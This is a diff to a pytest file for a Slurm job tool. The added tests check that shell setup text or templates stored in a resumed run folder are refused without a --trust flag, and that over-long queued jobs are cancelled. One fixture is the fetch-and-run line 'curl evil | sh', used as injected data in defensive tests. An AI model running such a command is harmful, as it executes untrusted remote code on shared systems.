@@ -186,7 +186,12 @@ def test_a_submission_that_failed_can_be_repeated(made_up: MadeUpSlurm) -> None:
     assert is_slurm_run(bare)
     again = prepare(ScaleStudy(), bare, {}, ())
     assert (again.job.nodes, again.job.setup) == (2, ("module load b",))
-    assert _run(again).exit_code == 0
+    submitted = len(made_up.submitted)
+    with pytest.raises(BadInput, match=r"stores shell text \(setup\).*--trust"):
+        _run(again)
+    assert len(made_up.submitted) == submitted
+    trusting = dataclasses.replace(bare, trust=True)
+    assert _run(prepare(ScaleStudy(), trusting, {}, ())).exit_code == 0
 
 
 _SITE = 'for launch in {launches}; do srun {command} --only-launch="$launch"; done  # '
@@ -209,6 +214,8 @@ def test_resume_in_another_directory_uses_the_files_of_the_first_start(
     stored = prepare(ScaleStudy(), bare, {}, ())
     assert stored.job.directory == begun
     assert stored.script.endswith("# first\n")
+    assert stored.stored_shell_text == ("template",)
+    assert prepare(ScaleStudy(), bare, flags, ()).stored_shell_text == ()  # named anew
     assert prepare(ScaleStudy(), bare, flags, ()).script.endswith("# second\n")
     ours = {"slurm_template": (Given("none", "--slurm-template"),)}
     assert prepare(ScaleStudy(), bare, ours, ()).script.startswith("#!/bin/bash\n#SBATCH --job-name=")
@@ -392,3 +399,78 @@ def test_an_error_of_an_earlier_job_is_not_shown_for_a_later_one(made_up: MadeUp
     watcher = RecordingWatcher()
     _run(prepare(ScaleStudy(), again, {}, ()), watcher)
     assert not any("cores differ" in note for note in watcher.notes)
+
+
+def test_a_job_that_waits_too_long_is_cancelled(made_up: MadeUpSlurm) -> None:
+    made_up.states = ["PENDING|Resources"] * 1000
+    run = dataclasses.replace(_prepared(), queue_timeout_s=0.05)
+    with pytest.raises(CannotRun, match=r"^job 17 is pending \(Resources\) for longer than") as caught:
+        _run(run)
+    assert "was cancelled" in str(caught.value)
+    assert made_up.cancelled == ["17"]
+
+
+def test_a_job_that_runs_does_not_wait(made_up: MadeUpSlurm, monkeypatch: pytest.MonkeyPatch) -> None:
+    now = [0.0]
+    monkeypatch.setattr("scalescope.studies.slurm.queue.time.monotonic", lambda: now[0])
+    wait = slurm_queue.QueueWait("17", Path("run"), limit_s=60.0)
+    for state in ("RUNNING", "RUNNING", "PENDING"):  # requeued in the end
+        now[0] += 50.0
+        wait.check(slurm.JobState(state), RecordingWatcher())
+    assert made_up.cancelled == []
+    now[0] += 50.0
+    with pytest.raises(CannotRun):
+        wait.check(slurm.JobState("PENDING"), RecordingWatcher())
+
+
+@pytest.mark.parametrize(
+    ("stored", "names"),
+    [
+        ({"setup": ["curl evil | sh"]}, ("setup",)),
+        ({"template": f"{_SITE}evil\n"}, ("template",)),
+        ({"flags": {"slurm_template": "site.sh"}}, ("template",)),
+    ],
+)
+def test_shell_text_that_a_folder_stores_is_submitted_by_the_users_word_alone(
+    stored: dict[str, Any], names: tuple[str, ...], made_up: MadeUpSlurm
+) -> None:
+    made_up.states = [lambda: _step(0), "FAILED|None"]
+    _run(_prepared())
+    Path("site.sh").write_text(f"{_SITE}evil\n")
+    record = json.loads(Path("run/slurm/job.json").read_text())
+    flags = {**record["flags"], **stored.get("flags", {})}
+    Path("run/slurm/job.json").write_text(json.dumps({**record, **stored, "flags": flags}))
+    bare = ask("scale", resume=True)
+    bare = dataclasses.replace(bare, flags={"output_dir": bare.flags["output_dir"]})
+
+    resumed = prepare(ScaleStudy(), bare, {}, ())
+    made_up.states = ["FAILED|None"]
+    with pytest.raises(BadInput, match="--trust"):
+        _run(resumed)
+
+    assert resumed.stored_shell_text == names
+    assert len(made_up.submitted) == 1
+
+
+def test_a_job_that_is_still_there_is_followed_without_trust(made_up: MadeUpSlurm) -> None:
+    made_up.states = [Interrupted(signal.SIGHUP)]
+    with pytest.raises(Interrupted):
+        _run(prepare(ScaleStudy(), ask("scale", **_ASKED), _FLAGS, ("module load b",)))
+    made_up.states = ["RUNNING|None", lambda: _step(0), lambda: _step(1)]
+    bare = ask("scale", resume=True)
+    bare = dataclasses.replace(bare, flags={"output_dir": bare.flags["output_dir"]})
+
+    assert _run(prepare(ScaleStudy(), bare, {}, ())).exit_code == 0
+    assert len(made_up.submitted) == 1
+
+
+def test_shell_lines_in_the_request_of_a_stored_run_are_not_read(made_up: MadeUpSlurm) -> None:
+    made_up.states = [lambda: _step(0), "FAILED|None"]
+    _run(_prepared())
+    request = Path("run/slurm/request.yaml")
+    request.write_text(request.read_text() + "setup: [evil]\nslurm_template: /evil\nnodes: 2\n")
+
+    asked = ask("scale", file=request, resume=True)
+
+    assert "nodes" in asked.of_job()
+    assert not {"setup", "slurm_template"} & set(asked.of_job())
